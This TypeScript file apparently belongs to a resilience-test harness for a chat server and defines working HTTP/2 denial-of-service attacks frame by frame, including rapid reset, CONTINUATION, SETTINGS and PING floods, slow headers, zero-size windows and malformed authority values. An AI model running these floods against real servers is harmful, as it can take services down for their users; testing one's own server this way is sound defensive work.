import { frame, frameType, headersFrame, preface, rstStream, windowUpdate } from "../../wire/frames.js";
import type { Fields } from "../../wire/script.js";
import { envelope } from "../../wire/status.js";
import { type Attack, badHosts, each, persist, repeat } from "./attack.js";
import { connect, type Raw } from "./raw.js";
import type { Siege } from "./siege.js";

// Attacks below the calls, frame by frame.

const cancel = 8;
const service = "/chat.v1.ChatService";

/** The preface, and settings of the attacker's own. */
export async function connectHttp2(siege: Siege, settings: Uint8Array = new Uint8Array(), options = {}): Promise<Raw> {
  const raw = await connect(siege, options);
  await raw.write(Buffer.concat([Buffer.from(preface), frame(frameType.settings, 0, 0, settings)]));
  return raw;
}

/** The headers of a call; its body is still to come. */
export function callFrame(streamId: number, method: string, fields: Fields = {}): Buffer {
  return headersFrame(
    streamId,
    {
      ":method": "POST",
      ":scheme": "http",
      ":authority": "127.0.0.1",
      ":path": `${service}/${method}`,
      "content-type": method === "Say" ? "application/proto" : "application/connect+proto",
      user: "eve",
      ...fields,
    },
    false,
  );
}

/** Data of a stream; `end`: the last. */
export function dataFrame(streamId: number, bytes: Uint8Array, end: boolean): Buffer {
  return frame(frameType.data, end ? 1 : 0, streamId, bytes);
}

/** A whole request for a stream: a message with a room. */
export function subscribeFrames(streamId: number, fields?: Fields, room = ""): Buffer {
  const text = Buffer.from(room);
  const message = room === "" ? text : Buffer.concat([Buffer.from([0x0a, text.length]), text]);
  return Buffer.concat([callFrame(streamId, "Subscribe", fields), dataFrame(streamId, envelope(0, message), true)]);
}

const id = (index: number) => 2 * index + 1;
const settingsOf = (...pairs: readonly (readonly [number, number])[]) => {
  const payload = Buffer.alloc(6 * pairs.length);
  for (const [index, [name, value]] of pairs.entries()) {
    payload.writeUInt16BE(name, 6 * index);
    payload.writeUInt32BE(value, 6 * index + 2);
  }
  return payload;
};
const initialWindowSize = 4;
const continuationType = 9;

/** Writes of one kind without end, on a new connection where the server has closed the one before. */
function flood(bytes: (count: number) => Buffer, options = {}): Attack["run"] {
  return (siege, tries) => persist(tries, () => connectHttp2(siege, undefined, options), bytes);
}

export const http2Attacks = {
  "rapid reset": {
    tries: "HEADERS and RST_STREAM in one write",
    quick: 400,
    full: 3_000,
    run: flood((n) => Buffer.concat([subscribeFrames(id(n)), rstStream(id(n), cancel)])),
  },
  "CONTINUATION flood": {
    tries: "CONTINUATION frames of 16 kB without an end",
    quick: 200,
    full: 4_000,
    run: flood((n) => {
      const name = Buffer.from(`x-${n}`);
      const field = Buffer.concat([
        Buffer.from([0x10, name.length]),
        name,
        Buffer.from([127, 0x81, 0x7e]),
        Buffer.alloc(16_256, 97),
      ]);
      const first = frame(frameType.headers, 0, 1, callFrame(1, "Subscribe").subarray(9));
      return n === 0 ? first : frame(continuationType, 0, 1, field);
    }),
  },
  "SETTINGS flood": {
    tries: "SETTINGS frames",
    quick: 2_000,
    full: 40_000,
    run: flood(() => frame(frameType.settings, 0, 0, settingsOf([initialWindowSize, 65_535], [3, 100]))),
  },
  "PING flood": {
    tries: "PING frames",
    quick: 2_000,
    full: 40_000,
    run: flood(() => frame(frameType.ping, 0, 0, Buffer.alloc(8))),
  },
  "PING flood, answers not read": {
    tries: "PING frames, whose answers nobody reads",
    quick: 5_000,
    full: 100_000,
    run: flood(() => frame(frameType.ping, 0, 0, Buffer.alloc(8)), { reads: false }),
  },
  "slow headers": {
    tries: "connections with headers that do not end",
    quick: 50,
    full: 1_000,
    run: (siege, tries) =>
      each(tries, async () => {
        const raw = await connectHttp2(siege);
        const call = callFrame(1, "Subscribe");
        await raw.write(frame(frameType.headers, 0, 1, call.subarray(9, 60)));
        return raw;
      }),
  },
  "streams without end on a connection": {
    tries: "streams that stay, on one connection",
    quick: 300,
    full: 3_000,
    async run(siege, tries) {
      const raw = await connectHttp2(siege, settingsOf([initialWindowSize, 0])); // nothing is sent back but headers
      await repeat(tries, (index) => raw.write(subscribeFrames(id(index))));
      return [raw];
    },
  },
  "windows of 0": {
    tries: "streams whose messages have no room to be sent",
    quick: 100,
    full: 1_000,
    async run(siege, tries) {
      const raw = await connectHttp2(siege, settingsOf([initialWindowSize, 0]));
      await repeat(tries, (index) => raw.write(subscribeFrames(id(index), {}, "flood")));
      return [raw];
    },
  },
  "readers that never read": {
    tries: "connections with a stream that nobody reads, with windows that never close",
    quick: 10,
    full: 100,
    run: (siege, tries) =>
      each(tries, async () => {
        const raw = await connectHttp2(siege, settingsOf([initialWindowSize, 2 ** 31 - 1]), { reads: false });
        await raw.write(Buffer.concat([windowUpdate(0, 2 ** 30), subscribeFrames(1, {}, "flood")]));
        return raw;
      }),
  },
  "an authority that is none": {
    tries: "calls with an authority that no URL can hold, or without one",
    quick: 50,
    full: 1_000,
    async run(siege, tries) {
      const raw = await connectHttp2(siege);
      await repeat(tries, (index) =>
        raw.write(subscribeFrames(id(index), { ":authority": badHosts[index % badHosts.length] ?? "" })),
      );
      return [raw];
    },
  },
} as const satisfies { readonly [name: string]: Attack };
